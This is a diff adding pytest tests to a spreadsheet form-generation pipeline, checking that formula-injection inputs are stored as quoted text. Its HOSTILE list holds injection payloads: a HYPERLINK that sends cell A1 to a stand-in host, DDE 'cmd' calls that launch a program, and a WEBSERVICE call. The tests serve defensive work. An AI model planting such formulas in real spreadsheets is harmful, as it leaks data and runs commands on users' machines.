@@ -128,6 +128,70 @@ def test_figures_hidden_rows_are_read_with_a_warning_naming_them(campaign_dir):
     assert any("14, 15 đang bị ẩn" in w for w in campaign.warnings)
 
 
+# =========================================================================== 2. injection
+
+HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
+           "=cmd|' /C calc'!A0", '=WEBSERVICE("http://example.invalid/")',
+           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+
+
+def _cells_xml(path: Path) -> str:
+    with zipfile.ZipFile(path) as archive:
+        return "".join(archive.read(n).decode("utf-8") for n in archive.namelist()
+                       if n.startswith("xl/worksheets/"))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_injection_unit_name_in_the_self_scoring_form_is_text(campaign_dir, tmp_path, text):
+    from pipeline.forms import form_name, write_forms
+    from pipeline.validate import validate_for_forms
+
+    edit_workbook(campaign_dir / WORKBOOK, {("Đơn vị", "B2"): "x"})
+    # The hostile name goes in raw (openpyxl would store it as a formula in the input too).
+    rewrite_part(campaign_dir / WORKBOOK, "xl/worksheets/sheet2.xml",
+                 lambda x: re.sub(r'(<c r="B2"[^>]*><is><t>)x<', lambda m: m.group(1) + (
+                     text.replace("&", "&amp;").replace("<", "&lt;")) + "<", x))
+    basis = validate_for_forms(load_campaign(campaign_dir))
+    assert basis.units[0].name == text
+    write_forms(basis, tmp_path)
+    path = tmp_path / form_name(basis.units[0].code)
+    book = openpyxl.load_workbook(path)
+    cell = book["Tự chấm"]["B2"]
+    assert cell.value == text and cell.data_type == "s"
+    assert cell.quotePrefix
+    assert "<f>" + text.lstrip("=").split("(")[0] not in _cells_xml(path)
+    # The group and total sums are still live formulas.
+    assert any(c.data_type == "f" for row in book["Tự chấm"].iter_rows() for c in row)
+
+
+def test_injection_criterion_text_in_the_self_scoring_form_is_text(campaign_dir, tmp_path):
+    from pipeline.forms import form_name, write_forms
+    from pipeline.validate import validate_for_forms
+
+    basis = validate_for_forms(load_campaign(campaign_dir))
+    import dataclasses
+    basis.criteria[1] = dataclasses.replace(basis.criteria[1], content="=1+1")
+    basis.field_of_work = "=WEBSERVICE(1)"
+    write_forms(basis, tmp_path)
+    sheet = openpyxl.load_workbook(tmp_path / form_name(basis.units[0].code))["Tự chấm"]
+    content = next(c for c in sheet["B"] if c.value == "=1+1")
+    assert content.data_type == "s" and content.quotePrefix
+    assert sheet["A1"].data_type == "s"
+
+
+def test_injection_blank_workbook_holds_no_formula(tmp_path, monkeypatch):
+    from pipeline import blank
+    from pipeline.model import Grade
+
+    monkeypatch.setattr(blank, "DEFAULT_GRADES", (Grade("A", 85, "=HYPERLINK(\"x\")"),
+                                                  Grade("B", 70, "@x")))
+    blank.write_blank_workbook(tmp_path / "trong.xlsx")
+    assert "<f>" not in _cells_xml(tmp_path / "trong.xlsx")
+    sheet = openpyxl.load_workbook(tmp_path / "trong.xlsx")["Xếp loại"]
+    assert sheet["C2"].value == '=HYPERLINK("x")' and sheet["C2"].data_type == "s"
+    assert sheet["C3"].quotePrefix
+
+
 # =========================================================================== 3. bounds
 
 def test_bounds_used_range_at_xfd1048576_is_refused_fast_under_1_gib(campaign_dir, tmp_path):
